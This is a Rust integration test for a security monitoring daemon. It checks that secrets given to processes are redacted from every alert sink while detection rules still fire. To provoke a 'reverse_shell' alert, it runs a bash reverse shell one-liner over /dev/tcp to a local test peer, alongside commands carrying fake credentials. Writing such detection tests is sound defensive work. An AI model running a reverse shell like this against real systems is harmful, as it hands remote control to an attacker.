//! Secrets that processes are given reach no sink of alerts, while rules see them.

use std::{
    fs,
    os::unix::{fs::PermissionsExt as _, net::UnixDatagram},
    process::Stdio,
};

use sentinel_tests::{
    bed::Bed,
    peer::Peer,
    sentinel::{PATIENCE, Sentinel, alerts, within},
};

/// In the midst of each secret, so that no part of it is told either.
const MARK: &str = "Q9xHunter";
/// Finds what is not to be told.
const RULE: &str = r#"
[[rule]]
name = "raw_text_is_seen"
mitre = "T1059"
severity = "warning"
description = "a program was started with a secret"
false_positives = "none"
references = ["https://attack.mitre.org/techniques/T1059/"]

[[rule.step]]
event = "exec"
where = { cmdline = { contains = "Q9xHunter" } }
"#;

#[test]
fn no_sink_tells_a_secret_that_a_process_was_given() {
    let Some(bed) = Bed::new() else { return };
    let rules = bed.path("rules.d");
    fs::create_dir(&rules).unwrap();
    fs::write(rules.join("raw.toml"), RULE).unwrap();
    let socket = bed.path("log");
    let daemon = UnixDatagram::bind(&socket).unwrap();
    // Who reads the rules, and who connects, are not root.
    for (path, mode) in [(bed.path(""), 0o755), (rules.clone(), 0o755), (socket.clone(), 0o666)] {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }
    daemon.set_nonblocking(true).unwrap();
    let all = bed.path("all.json");
    let sentinel = Sentinel::start(
        &bed,
        &[
            "--grimoire-enforce",
            "--grimoire-debug",
            "--redact=badge-number {}",
            &format!("--rules={}", rules.display()),
            "--enable-syslog",
            &format!("--syslog=unix:{}", socket.display()),
            "--enable-json-log",
            &format!("--json-log-path={}", all.display()),
        ],
    );
    // A shell whose own command line has a secret, and programs that are given some.
    let peer = Peer::listen("127.0.0.1");
    let code = format!(
        "echo --password=a{MARK}b --badge-number c{MARK}d >&2; true --token 'e {MARK} f'; \
         DB_PASSWORD={MARK} env curl -u me:{MARK} --version >/dev/null; \
         /bin/true 'Authorization: Bearer {MARK}' https://me:{MARK}@example.org; \
         bash >& /dev/tcp/127.0.0.1/{} 0>&1",
        peer.address().port()
    );
    let mut shell = bed.command("bash");
    let shell = shell.args(["-c", &code]).stdin(Stdio::null()).stderr(Stdio::null());
    let mut child = shell.spawn().unwrap();
    let _connection = peer.accept();
    let told = |name: &str| {
        let found = alerts(&all);
        found.into_iter().filter(|alert| alert["pattern_name"] == name).count()
    };
    let came = within(PATIENCE, || told("reverse_shell") > 0 && told("raw_text_is_seen") >= 3);
    let status = sentinel_analyzer::control::status(std::path::Path::new(
        sentinel_analyzer::control::SOCKET,
    ));
    let _gone = child.kill();
    child.wait().unwrap();
    let outcome = sentinel.stop();
    assert!(came, "{:#?}\n{}", outcome.alerts, outcome.errors);
    let mut lines = String::new();
    let mut datagram = [0; 4096];
    while let Ok(length) = daemon.recv(&mut datagram) {
        lines.push_str(&String::from_utf8_lossy(&datagram[..length]));
    }
    let own = fs::read_to_string(bed.path("alerts.json")).unwrap();
    let status = status.map(|status| format!("{status:?}")).unwrap_or_default();
    for (sink, text) in [
        ("console", &outcome.output),
        ("standard error, with the enforcer's audit", &outcome.errors),
        ("the log of patterns", &own),
        ("the log of all", &fs::read_to_string(&all).unwrap()),
        ("syslog", &lines),
        ("status", &status),
    ] {
        assert!(!text.contains(MARK), "{sink}: {text}");
    }
    assert!(own.contains("[redacted]") && lines.contains("reverse_shell"), "{own}\n{lines}");
}
